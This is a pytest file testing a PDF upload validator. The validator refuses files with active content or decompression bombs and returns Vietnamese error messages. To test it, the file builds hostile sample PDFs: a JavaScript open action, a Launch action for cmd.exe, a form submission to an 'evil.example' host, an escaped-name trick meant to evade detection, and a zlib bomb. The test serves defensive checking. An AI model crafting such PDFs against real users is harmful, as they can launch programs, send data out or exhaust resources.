"""Uploaded PDFs with active content or decompression bombs are refused with a clear Vietnamese message before
anyone opens them (issue 13). The hostile files are built here, from an ordinary PDF, with pyHanko's writer."""

from __future__ import annotations

import io
import zlib

import pytest
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from signing.validation import PdfNotAcceptableError, check_pdf_acceptable
from tests.fixtures_pki import make_sample_pdf


def base_pdf() -> bytes:
    return make_sample_pdf(("Văn bản mẫu",))


def with_root_entry(key: str, make) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(base_pdf()))
    writer.root[generic.NameObject(key)] = writer.add_object(make(writer))
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **entries) -> dict:
    d = generic.DictionaryObject({generic.NameObject("/S"): generic.NameObject(kind)})
    for key, value in entries.items():
        d[generic.NameObject(f"/{key}")] = value
    return d


HOSTILE = {
    "open_action_javascript": lambda: with_root_entry("/OpenAction", lambda w: action(
        "/JavaScript", JS=generic.TextStringObject("app.alert('x')"))),
    "launch": lambda: with_root_entry("/OpenAction", lambda w: action(
        "/Launch", F=generic.TextStringObject("cmd.exe"))),
    "submit_form": lambda: with_root_entry("/OpenAction", lambda w: action(
        "/SubmitForm", F=generic.TextStringObject("http://evil.example/"))),
    "import_data": lambda: with_root_entry("/OpenAction", lambda w: action(
        "/ImportData", F=generic.TextStringObject("data.fdf"))),
    "additional_actions": lambda: with_root_entry("/AA", lambda w: generic.DictionaryObject({
        generic.NameObject("/WC"): action("/JavaScript", JS=generic.TextStringObject("1"))})),
    "names_javascript": lambda: with_root_entry("/Names", lambda w: generic.DictionaryObject({
        generic.NameObject("/JavaScript"): generic.DictionaryObject()})),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_a_pdf_with_active_content_is_refused_with_a_vietnamese_message(kind):
    with pytest.raises(PdfNotAcceptableError) as caught:
        check_pdf_acceptable(HOSTILE[kind]())
    assert caught.value.code == "active_content"
    assert "mã lệnh" in caught.value.message


def test_an_escaped_javascript_name_is_refused_too():
    data = HOSTILE["open_action_javascript"]().replace(b"/JavaScript", b"/J#61vaScript")
    with pytest.raises(PdfNotAcceptableError) as caught:
        check_pdf_acceptable(data)
    assert caught.value.code == "active_content"


def test_an_ordinary_pdf_and_a_harmless_open_action_are_accepted():
    check_pdf_acceptable(base_pdf())
    check_pdf_acceptable(with_root_entry("/PageMode", lambda w: generic.NameObject("/UseOutlines")))


def bomb(size: int) -> bytes:
    def make(writer):
        stream = generic.StreamObject({generic.NameObject("/Filter"): generic.NameObject("/FlateDecode")},
                                      encoded_data=zlib.compress(b"\0" * size, 9))
        return stream
    return with_root_entry("/Bomb", make)


def test_a_pdf_whose_streams_inflate_far_beyond_its_size_is_refused(settings):
    settings.EOFFICE_PDF_MAX_INFLATED_BYTES = 1024 * 1024
    data = bomb(8 * 1024 * 1024)
    assert len(data) * 100 < 8 * 1024 * 1024
    with pytest.raises(PdfNotAcceptableError) as caught:
        check_pdf_acceptable(data)
    assert caught.value.code == "inflation"
    assert "giải nén" in caught.value.message


def test_a_compressed_stream_within_the_limits_is_accepted(settings):
    settings.EOFFICE_PDF_MAX_INFLATED_BYTES = 1024 * 1024
    check_pdf_acceptable(bomb(64 * 1024))
